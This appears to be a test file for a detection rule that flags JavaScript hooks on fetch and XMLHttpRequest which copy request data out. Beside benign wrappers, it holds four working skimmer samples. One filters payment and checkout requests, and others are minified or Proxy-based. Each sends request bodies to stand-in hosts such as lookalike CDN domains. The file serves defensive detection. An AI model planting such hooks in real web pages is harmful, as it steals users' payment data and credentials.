import rule from './request-hook-exfil.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    { name: 'CSRF header added in an XHR wrapper', code: "var _send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { this.setRequestHeader('X-CSRF-Token', token); return _send.call(this, body); };" },
    { name: 'monitoring wrapper that records timing and the URL into its own queue', code: "var orig = window.fetch; window.fetch = function (input, init) { var t0 = Date.now(); return orig.apply(this, arguments).then(function (r) { queue.push({ url: String(input), status: r.status, ms: Date.now() - t0 }); return r; }); };" },
    { name: 'RUM beacon of the URL and duration to its own endpoint', code: "var f = window.fetch; window.fetch = function (u, o) { var t = Date.now(); return f.apply(this, arguments).then(function (r) { navigator.sendBeacon('/rum', JSON.stringify({ u: String(u), ms: Date.now() - t })); return r; }); };" },
    { name: 'Pace-style progress monitor on XHR', code: "var _s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function () { var req = this; req.addEventListener('progress', function (e) { progress.update(e.loaded / e.total); }); return _s.apply(req, arguments); };" },
    { name: 'a fetch polyfill assignment', code: "if (!self.fetch) { self.fetch = function (input, init) { return new Promise(function (resolve, reject) { var xhr = new XMLHttpRequest(); xhr.open((init && init.method) || 'GET', input); xhr.onload = function () { resolve(new Response(xhr.responseText)); }; xhr.send(init && init.body); }); }; }" },
  ],
  invalid: [
    { name: 'XHR body copied to another host, filtered by payment URL', code: "(function(){ var o = XMLHttpRequest.prototype.open, s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.open = function(m, u){ this._u = u; return o.apply(this, arguments); }; XMLHttpRequest.prototype.send = function(body){ if (/payment|checkout/i.test(this._u) && body) { var x = new XMLHttpRequest(); x.open('POST', 'https://api-statistics-collector.example/v2/log', true); x.send(btoa(unescape(encodeURIComponent(body)))); } return s.apply(this, arguments); }; })();", messageIds: ['hook'], severity: 'critical' },
    { name: 'fetch bodies beaconed to a lookalike host (minified)', code: '!function(){var f=window.fetch;window.fetch=function(u,o){try{if(o&&o.body){navigator.sendBeacon("https://fonts-googleapis-cdn.example/css",JSON.stringify({u:String(u),b:o.body}))}}catch(e){}return f.apply(this,arguments)}}();', messageIds: ['hook'], severity: 'critical' },
    { name: 'plain copy of every XHR body to a literal host', code: "var P = XMLHttpRequest.prototype, send0 = P.send; XMLHttpRequest.prototype.send = function (d) { var copy = d; new Image().src = 'https://stats-collector.example/p?d=' + copy; return send0.call(this, d); };", messageIds: ['hook'], severity: 'high' },
    { name: 'fetch replaced by a Proxy whose apply handler forwards the arguments', code: "window.fetch = new Proxy(window.fetch, { apply: function (target, self, args) { navigator.sendBeacon('https://cdn-metrics.example/f', JSON.stringify(args)); return Reflect.apply(target, self, args); } });", messageIds: ['hook'], severity: 'high' },
  ],
});
